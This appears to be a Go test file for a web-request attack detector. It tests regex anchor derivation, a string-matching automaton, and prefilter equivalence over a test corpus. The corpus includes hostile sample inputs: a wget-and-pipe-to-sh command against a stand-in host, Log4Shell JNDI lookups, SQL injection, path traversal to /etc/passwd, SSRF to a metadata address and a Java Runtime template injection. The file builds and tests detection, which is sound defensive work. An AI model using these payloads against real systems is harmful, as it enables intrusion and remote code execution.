package detect

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"regexp/syntax"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"
)

func TestDeriveAnchors(t *testing.T) {
	tests := []struct {
		pattern string
		want    []string
		err     string
	}{
		{pattern: `abc`, want: []string{"abc"}},
		{pattern: `ab|ac|a`, want: []string{"a"}},
		{pattern: `\$\{\s*x`, want: []string{"${\t", "${\n", "${\f", "${\r", "${ ", "${x"}},
		{pattern: `a[bc]d`, want: []string{"abd", "acd"}},
		{pattern: `a(?:b|c)?`, want: []string{"a"}},
		{pattern: `ab+c`, want: []string{"ab"}},
		{pattern: `ab{2}c`, want: []string{"abbc"}},
		{pattern: `x\bfoo$`, want: []string{"xfoo"}},
		{pattern: `(?i)ok`, want: []string{"ok", "o\u212a"}}, // the Kelvin sign folds to k
		{pattern: `(?i)sk`, want: []string{"sk", "s\u212a", "\u017fk", "\u017f\u212a"}},
		{pattern: `a.*b`, want: []string{"a"}},
		{pattern: `.*b`, err: "can start with anything"},
		{pattern: `[^}]+`, err: "can start with anything"},
		{pattern: `\w`, err: "can start with anything"},
		{pattern: `a|.`, err: "can start with anything"},
		{pattern: `x?`, err: "or be empty"},
		{pattern: `Ab`, err: "upper-case"},
		{pattern: `(`, err: "missing closing )"},
	}
	for _, tt := range tests {
		t.Run(tt.pattern, func(t *testing.T) {
			got, err := deriveAnchors(tt.pattern)
			if tt.err != "" {
				if err == nil || !strings.Contains(err.Error(), tt.err) {
					t.Fatalf("deriveAnchors(%q) = %q, %v, want error %q", tt.pattern, got, err, tt.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			slices.Sort(tt.want)
			if diff := cmp.Diff(got, tt.want); diff != "" {
				t.Errorf("deriveAnchors(%q) (-got +want):\n%s", tt.pattern, diff)
			}
		})
	}
}

// TestAnchorsCover checks, for every positive rule case, that the
// matched text starts with one of the rule's anchors: the prefilter
// passes every attack the rule tests hold.
func TestAnchorsCover(t *testing.T) {
	rules := mustRules(t)
	for _, tt := range ruleCases {
		if tt.want == "" {
			continue
		}
		i := slices.IndexFunc(rules.rules, func(c *compiled) bool { return c.ID == tt.want })
		c := rules.rules[i]
		d := decode(tt.value, plusIn(tt.field))
		loc := regexp.MustCompile(c.Pattern).FindStringIndex(d)
		if loc == nil {
			t.Errorf("%s: %s does not match %q", tt.name, c.ID, d)
			continue
		}
		if !slices.ContainsFunc(c.anchors, func(a string) bool { return strings.HasPrefix(d[loc[0]:], a) }) {
			t.Errorf("%s: the match %q of %s starts with none of its anchors %q", tt.name, d[loc[0]:loc[1]], c.ID, c.anchors)
		}
	}
}

// corpus returns the values of the rule cases, benign and attack values
// of each class, and random splices of them.
func corpus() []string {
	var vs []string
	for _, tt := range ruleCases {
		vs = append(vs, tt.value)
	}
	vs = append(vs,
		"/api/v1/orders/8f14e45f-ceea-467f-a0e6-1c0a3f1d2b3c/items", "currency=EUR&ref=home_page&utm_source=news%20letter",
		"text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig",
		"SELECT o.id, o.total FROM orders o JOIN users u ON u.id = o.user_id WHERE u.email = $1 LIMIT 50",
		"q=it's a test; isn't it | or not && then", "name=O'Reilly&t=T(x)&x=t (y)", "a=${x}&b=#{y}&c={{z}}&d=<%w%>",
		"id=1%27%20or%20%27a%27%3D%27a", "x=%25%32%34%25%37%42jndi:ldap://x/}", "q=1 UNION/**/ALL/**/SELECT 1,2",
		"f=....//....//etc/passwd", "c=;wget http://x.example/a.sh|sh", "h=%0aid%0a", "u=http://0xa9fea9fe/latest",
		"q=sleep (5)", "q=benchmark(10,md5(1))", "{% include 'x' %}", "#set($x=1)", "T ( java.lang.Runtime )",
		"%uFF0E%u002e/%u002e%u002e/", "..%c0%af..%c1%9c..%e0%80%ae", "ua ${::-j}${lower:n}di:${upper:l}dap",
	)
	rnd := rand.New(rand.NewPCG(1, 2))
	base := len(vs)
	for range 3000 {
		var b strings.Builder
		for range 1 + rnd.IntN(4) {
			v := vs[rnd.IntN(base)]
			i := rnd.IntN(len(v) + 1)
			j := i + rnd.IntN(len(v)-i+1)
			b.WriteString(v[i:j])
			if rnd.IntN(3) == 0 {
				b.WriteString([]string{" ", "\t", "%20", "+", ";", "'", "(", "${", "%"}[rnd.IntN(9)])
			}
		}
		vs = append(vs, b.String())
	}
	return vs
}

// TestPrefilterEquivalence checks that Scan, which tries a pattern only
// where its anchors occur, reports what an unanchored search of every
// rule over every decoded value reports: the same rules with the same
// matches.
func TestPrefilterEquivalence(t *testing.T) {
	rules := mustRules(t)
	unanchored := unanchoredPatterns(rules)
	for _, v := range corpus() {
		for _, f := range fields {
			checkEquivalent(t, rules, unanchored, f, v)
		}
	}
}

// TestScanManyAnchors checks values in which a rule's anchors occur more
// often than it is tried at each (maxTries): the payload after them is
// found, as an unanchored search finds it. A rule tried at 64 of them
// and no more missed a command after 70 newlines, and read the newlines
// to the end from each of the 64 (47 ms for a value of 4,000 on this
// machine; BenchmarkRulesScan/anchors-4k measures it now).
func TestScanManyAnchors(t *testing.T) {
	rules := mustRules(t)
	unanchored := unanchoredPatterns(rules)
	for _, tt := range []struct {
		name, value, want string
	}{
		{"command after newlines", strings.Repeat("\n", 70) + "x;id", "command-injection"},
		{"command after encoded newlines", strings.Repeat("%0A", 70) + "x;id", "command-injection"},
		{"command after separators", strings.Repeat(";x", 70) + ";id", "command-injection"},
		{"tautology after quotes", strings.Repeat("'x", 70) + "' or 1=1", "sqli-tautology"},
		{"traversal after dots", strings.Repeat("..x", 70) + "../../etc/passwd", "path-traversal"},
		{"as many newlines, no payload", strings.Repeat("\n", 4000), ""},
		{"as few anchors as tried", strings.Repeat("\n", maxTries-1) + "x;id", "command-injection"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			v := "q=" + tt.value
			checkEquivalent(t, rules, unanchored, FieldURLQuery, v)
			sp := spanWith(string(FieldURLQuery), v)
			var got []string
			rules.Scan(&sp, func(h Hit) { got = append(got, h.Rule.ID) })
			if tt.want == "" && len(got) > 0 || tt.want != "" && !slices.Contains(got, tt.want) {
				t.Errorf("Scan(%.40q...) hit %v, want %q", v, got, tt.want)
			}
		})
	}
}

// customPatterns are rule patterns of the shapes a user's rule may take
// that the built-in rules do not: assertions before the first literal,
// alternations of optional groups, case folding, classes, repeats.
var customPatterns = []string{
	`\bor\b\s*\d`, `\Bfoo`, `^admin`, `(?m)^set-cookie:`, `(?:\b|x)ab`, `(?:a|b?)\bc`,
	`(?i)select\s+\*`, `(?i)k[e3]y`, `a(?:b|)c`, `(?:x|yz)?w+q`, `[;|&]\s*(?:rm|mv)\s`, `ab{2,3}c?d`,
	`(?:%|\$)\{[^}]*\}`, `\x00x`, `é+t`, `(?s)z.\bq`, `(?:a|b)(?:c|d)(?:e|f)(?:g|h)(?:i|j)(?:k|l)(?:m|n)(?:o|p)`,
}

// TestPrefilterGenerated is TestPrefilterEquivalence over values made
// from each pattern's syntax tree: for every rule, built-in and custom,
// strings its pattern matches, in text around them, must give with the
// prefilter what an unanchored search gives. Custom patterns that begin
// with \b, \B or ^ used to be tried at an anchor on the value cut there:
// \Bfoo never matched "xfoo", \bor\b matched in "color".
func TestPrefilterGenerated(t *testing.T) {
	var custom []Rule
	for i, p := range customPatterns {
		custom = append(custom, Rule{ID: fmt.Sprintf("custom-%d", i), Class: "test", Fields: fields, Pattern: p, Severity: Low})
	}
	for _, set := range []struct {
		name  string
		rules []Rule
	}{{"built-in", DefaultRules()}, {"custom", custom}} {
		t.Run(set.name, func(t *testing.T) {
			rules, err := CompileRules(set.rules)
			if err != nil {
				t.Fatal(err)
			}
			unanchored := unanchoredPatterns(rules)
			rnd := rand.New(rand.NewPCG(7, 8))
			around := []string{"", "x", "q=", "a b", "A", "%20", "\n", "é", "1+"}
			for _, c := range rules.rules {
				tree, err := syntax.Parse(c.Pattern, syntax.Perl)
				if err != nil {
					t.Fatal(err)
				}
				tree = tree.Simplify()
				for range 60 {
					var b strings.Builder
					b.WriteString(around[rnd.IntN(len(around))])
					generate(rnd, tree, &b)
					b.WriteString(around[rnd.IntN(len(around))])
					for _, f := range fields {
						if c.fields&f.bit() != 0 {
							checkEquivalent(t, rules, unanchored, f, b.String())
						}
					}
					if t.Failed() {
						t.FailNow()
					}
				}
			}
		})
	}
}

// TestScanLooksBehind: a pattern that begins with an assertion about the
// text before the match is matched as an unanchored search matches it.
func TestScanLooksBehind(t *testing.T) {
	tests := []struct {
		pattern, value, want string // want: the match, "" for none
	}{
		{`\Bfoo`, "xfoo", "foo"}, // missed when tried on "foo" alone
		{`\Bfoo`, "x foo", ""},
		{`\bor\b`, "color", ""}, // fired when tried on "or" alone
		{`\bor\b`, "x or y", "or"},
		{`^admin`, "x admin", ""},
		{`^admin`, "admin x", "admin"},
		{`(?m)^admin`, "x\nadmin", "admin"},
		{`(?m)^admin`, "x admin", ""},
		{`(?:\b|x)ab`, "cab xab", "xab"},
		{`\bor\b`, strings.Repeat("color ", 20) + "or", "or"},
	}
	for _, tt := range tests {
		t.Run(tt.pattern+" in "+tt.value, func(t *testing.T) {
			rules, err := CompileRules([]Rule{{ID: "r", Class: "test", Fields: []Field{FieldURLPath}, Pattern: tt.pattern, Severity: Low}})
			if err != nil {
				t.Fatal(err)
			}
			sp := spanWith(string(FieldURLPath), tt.value)
			got := ""
			rules.Scan(&sp, func(h Hit) { got = h.Match })
			if got != tt.want {
				t.Errorf("Scan matched %q, want %q", got, tt.want)
			}
		})
	}
}

// generate writes to b a random string that re matches, or nearly
// (assertions are not checked): what the equivalence check is given.
func generate(rnd *rand.Rand, re *syntax.Regexp, b *strings.Builder) {
	const anyText = "abcxyz019 \t\n%+'\";/\\.-_=(){}$#@|&<>A"
	switch re.Op {
	case syntax.OpLiteral:
		for _, r := range re.Rune {
			if re.Flags&syntax.FoldCase != 0 {
				orbit := []rune{r}
				for f := unicode.SimpleFold(r); f != r; f = unicode.SimpleFold(f) {
					orbit = append(orbit, f)
				}
				r = orbit[rnd.IntN(len(orbit))]
			}
			b.WriteRune(r)
		}
	case syntax.OpCharClass:
		var rs []rune
		for i := 0; i+1 < len(re.Rune); i += 2 {
			for r := re.Rune[i]; r <= min(re.Rune[i+1], re.Rune[i]+64); r++ {
				rs = append(rs, r)
			}
		}
		if len(rs) > 0 {
			b.WriteRune(rs[rnd.IntN(len(rs))])
		}
	case syntax.OpAnyChar, syntax.OpAnyCharNotNL:
		b.WriteByte(anyText[rnd.IntN(len(anyText))])
	case syntax.OpCapture:
		generate(rnd, re.Sub[0], b)
	case syntax.OpStar, syntax.OpQuest, syntax.OpPlus, syntax.OpRepeat:
		lo, hi := 0, 2
		switch re.Op {
		case syntax.OpQuest:
			hi = 1
		case syntax.OpPlus:
			lo = 1
		case syntax.OpRepeat:
			lo, hi = re.Min, re.Max
			if hi < 0 {
				hi = lo + 2
			}
		}
		for range lo + rnd.IntN(hi-lo+1) {
			generate(rnd, re.Sub[0], b)
		}
	case syntax.OpConcat:
		for _, sub := range re.Sub {
			generate(rnd, sub, b)
		}
	case syntax.OpAlternate:
		generate(rnd, re.Sub[rnd.IntN(len(re.Sub))], b)
	}
}

// unanchoredPatterns compiles the rules' patterns as they are, by rule
// index.
func unanchoredPatterns(rules *Rules) []*regexp.Regexp {
	out := make([]*regexp.Regexp, len(rules.rules))
	for i, c := range rules.rules {
		out[i] = regexp.MustCompile(c.Pattern)
	}
	return out
}

// checkEquivalent compares Scan with the unfiltered path on one value.
func checkEquivalent(t testing.TB, rules *Rules, unanchored []*regexp.Regexp, f Field, v string) {
	t.Helper()
	name := string(f)
	if f == FieldRequestHeader {
		name += ".x-test"
	}
	sp := spanWith(name, v)
	got := map[string]string{}
	rules.Scan(&sp, func(h Hit) { got[h.Rule.ID] = h.Match })
	want := map[string]string{}
	d := decode(v, plusIn(string(f)))
	for i, c := range rules.rules {
		if c.fields&f.bit() == 0 {
			continue
		}
		if loc := unanchored[i].FindStringIndex(d); loc != nil {
			want[c.ID] = d[loc[0]:loc[1]]
		}
	}
	if diff := cmp.Diff(got, want); diff != "" {
		t.Errorf("%s=%q (decoded %q): prefiltered vs unfiltered (-got +want):\n%s", name, v, d, diff)
	}
}

func TestAutomaton(t *testing.T) {
	pats := []string{"he", "she", "his", "hers", "s", "a;", ";", "${jndi:"}
	ac := newAutomaton(pats)
	rnd := rand.New(rand.NewPCG(3, 4))
	for range 2000 {
		b := make([]byte, rnd.IntN(40))
		for i := range b {
			b[i] = "hesirHESIR;a${jndi:"[rnd.IntN(19)]
		}
		s := string(b)
		var want []occurrence
		lower := strings.ToLower(s)
		for end := 1; end <= len(s); end++ {
			for id, p := range pats {
				if strings.HasSuffix(lower[:end], p) {
					want = append(want, occurrence{start: int32(end - len(p)), pat: int32(id)})
				}
			}
		}
		got := find(ac, s, nil)
		sortOcc := func(o []occurrence) {
			slices.SortFunc(o, func(a, b occurrence) int { return int(a.start+a.pat*1000) - int(b.start+b.pat*1000) })
		}
		sortOcc(got)
		sortOcc(want)
		if diff := cmp.Diff(got, want, cmp.AllowUnexported(occurrence{})); diff != "" {
			t.Fatalf("find(%q) (-got +want):\n%s", s, diff)
		}
	}
}
